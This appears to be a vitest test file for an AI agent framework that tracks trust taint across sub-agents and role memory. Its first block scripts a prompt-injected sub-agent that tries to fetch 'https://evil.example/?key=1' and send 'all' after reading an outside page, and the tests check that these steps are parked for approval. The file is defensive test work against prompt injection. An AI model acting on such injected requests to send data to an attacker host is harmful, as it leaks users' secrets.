import { describe, expect, it } from 'vitest';
import { explainLine, findLine } from '../../src/prompt/manifest.ts';
import { end, gives, reports, delegateStory as story, use } from './delegate-story.ts';
import { asks, toolOf } from './loop-story.ts';

describe('the trust of a sub-agent', () => {
  const page = toolOf({
    name: 'web_read',
    reach: 'network',
    trust: 'outside',
    text: 'see https://good.example/next',
  });
  const get = () =>
    toolOf({
      name: 'http_fetch',
      reach: 'network',
      touches: (input) => ({
        requests: [{ url: (input as { url: string }).url, method: 'GET', bodyBytes: 0 }],
      }),
    });
  const fetches = (url: string) => ({ name: 'http_fetch', input: { url } });

  it('falls with what it reads, and whoever asked falls with it', async () => {
    const http = get();
    const { run, result, approvals } = await story({
      tools: [page, http, toolOf({ name: 'send', reach: 'send' })],
      replies: [
        ...[asks(gives('researcher')), use('web_read'), reports()],
        asks(fetches('https://good.example/next'), fetches('https://evil.example/?key=1'), {
          name: 'send',
          input: 'all',
        }),
        end,
      ],
    });
    expect(await run()).toMatchObject({ trust: 'outside' });
    expect(result(3)?.text).toContain('<<outside');
    // What was read inside was read; what the report makes up was not.
    expect(http.runs).toEqual([{ url: 'https://good.example/next' }]);
    expect((await approvals()).map(({ rule }) => rule)).toEqual(['taint.address', 'taint.send']);
  });

  it('begins where the turn stands that asks, and a task makes no address known', async () => {
    const http = get();
    const evil = 'https://evil.example/?key=1';
    const { run, approvals } = await story({
      tools: [page, http],
      replies: [
        ...[use('web_read'), asks(gives('researcher', `read ${evil}`))],
        ...[asks(fetches(evil)), reports(), end],
      ],
    });
    const { parked } = await run();
    expect(http.runs).toEqual([]);
    expect(parked).toEqual(['tool-17-1-2-1-researcher-1-1']);
    expect(await approvals()).toMatchObject([{ rule: 'taint.address', work_id: 'task:w' }]);
  });
});

describe('what a role has learned', () => {
  const learns = reports({ learned: ['run the tests with --all', ' '] });

  it('stands in its next prompt with where it comes from, and in no other role', async () => {
    const {
      run,
      shown,
      story: log,
      payloads,
    } = await story({
      replies: [
        ...[asks(gives('builder')), learns, end],
        ...[asks(gives('builder'), gives('reviewer')), reports(), reports(), end],
      ],
    });
    await run();
    const [updated, ...others] = (await log.events()).filter(
      ({ type }) => type === 'AgentMemoryUpdated',
    );
    expect(others).toEqual([]);
    expect(updated?.trust).toBe('self');
    expect(updated?.subjects).toContain('role:builder');
    const runIds = (await payloads('AgentRunCompleted')).map(({ run_id }) => run_id);
    expect(runIds).toContain((await payloads('AgentMemoryUpdated'))[0]?.['source_run']);
    await run();
    expect(shown(4)).toContain('run the tests with --all');
    expect(shown(5)).not.toContain('run the tests');
    const manifest = (await payloads('PromptAssembled'))[3]!;
    const [line] = findLine(manifest, log.blobs.texts.get(manifest.blob) ?? '', 'with --all');
    expect(explainLine(manifest, line?.line ?? 0)).toEqual([updated?.eventId]);
  });

  it('in a turn that read from outside comes back as data, and only to such a turn at once', async () => {
    const page = toolOf({ name: 'web_read', reach: 'network', trust: 'outside', text: 'page' });
    const {
      run,
      shown,
      story: log,
      result,
      payloads,
    } = await story({
      tools: [page],
      replies: [
        ...[asks(gives('researcher')), use('web_read'), learns, end],
        ...[asks(gives('researcher')), use('read_notes'), reports(), end],
        ...[use('web_read', 'again'), asks(gives('researcher')), reports(), end],
      ],
    });
    await run();
    const [updated] = (await log.events()).filter(({ type }) => type === 'AgentMemoryUpdated');
    expect(updated?.trust).toBe('outside');
    expect(await run()).toMatchObject({ trust: 'outside' });
    expect(shown(5)).not.toContain('run the tests');
    expect(shown(5)).toContain('"notes_from_outside":1');
    expect((await payloads('PromptAssembled'))[3]?.['dropped']).toMatchObject([
      { name: 'apart:researcher-1' },
    ]);
    expect(result(6)?.text).toMatch(/<<outside \w+\n\| - run the tests/);
    await run();
    expect(shown(10)).toMatch(/<<outside \w+ \| \{"note":"run the tests with --all"\} \|/);
    expect(shown(10)).not.toContain('notes_from_outside');
  });
});
